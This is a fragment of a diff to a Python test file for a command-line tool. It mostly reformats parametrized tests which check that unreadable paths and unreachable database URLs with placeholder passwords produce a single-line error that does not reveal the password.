+        (("export", "--format", "csv", "-o", "{tmp}/sweep.toml"), "is not a folder"),
+        (("render", "1", "-o", "/dev/null/x.png"), ""),
+    ],
+)
 def test_a_file_that_cannot_be_read_or_written_is_one_line(cli, odd_paths, args, message):
     result = cli(*(arg.format(tmp=odd_paths) for arg in args))
     assert result.exit_code == 2 and message in one_clean_line(result.output)
 
 
-@pytest.mark.parametrize("url, message", [
-    ("postgresql://oriole:SECRETPW@127.0.0.1:{closed}/oriole", "cannot use the database at 127.0.0.1:"),
-    ("postgresql://oriole:SECRETPW@127.0.0.1:{http}/oriole?connect_timeout=1", "cannot use the database at"),
-    ("postgresql://oriole:SECRETPW@127.0.0.1:{silent}/oriole?connect_timeout=1", "cannot use the database at"),
-    ("http://oriole:SECRETPW@example.org/x y", "DATABASE_URL is not a PostgreSQL connection URL"),
-    ("host=127.0.0.1 password=SECRETPW port=x", "cannot use the database"),
-])
+@pytest.mark.parametrize(
+    "url, message",
+    [
+        ("postgresql://oriole:SECRETPW@127.0.0.1:{closed}/oriole", "cannot use the database at 127.0.0.1:"),
+        ("postgresql://oriole:SECRETPW@127.0.0.1:{http}/oriole?connect_timeout=1", "cannot use the database at"),
+        ("postgresql://oriole:SECRETPW@127.0.0.1:{silent}/oriole?connect_timeout=1", "cannot use the database at"),
+        ("http://oriole:SECRETPW@example.org/x y", "DATABASE_URL is not a PostgreSQL connection URL"),
+        ("host=127.0.0.1 password=SECRETPW port=x", "cannot use the database"),
+    ],
+)
 def test_a_database_url_that_leads_nowhere_is_one_line_without_its_password(cli, monkeypatch, url, message):
     import socket
 
@@ -502,8 +679,9 @@ def test_a_database_url_that_leads_nowhere_is_one_line_without_its_password(cli,
         closed.bind(("127.0.0.1", 0))
         silent.bind(("127.0.0.1", 0))
         silent.listen(1)  # accepts, never answers
-        url = url.format(closed=closed.getsockname()[1], silent=silent.getsockname()[1],
-                         http=http.url.rsplit(":", 1)[1])
+        url = url.format(
+            closed=closed.getsockname()[1], silent=silent.getsockname()[1], http=http.url.rsplit(":", 1)[1]
+        )
         monkeypatch.setenv("DATABASE_URL", url)
         results = [cli(*args) for args in (("ls",), ("db", "migrate"))]  # reading, and migrating
     for result in results:
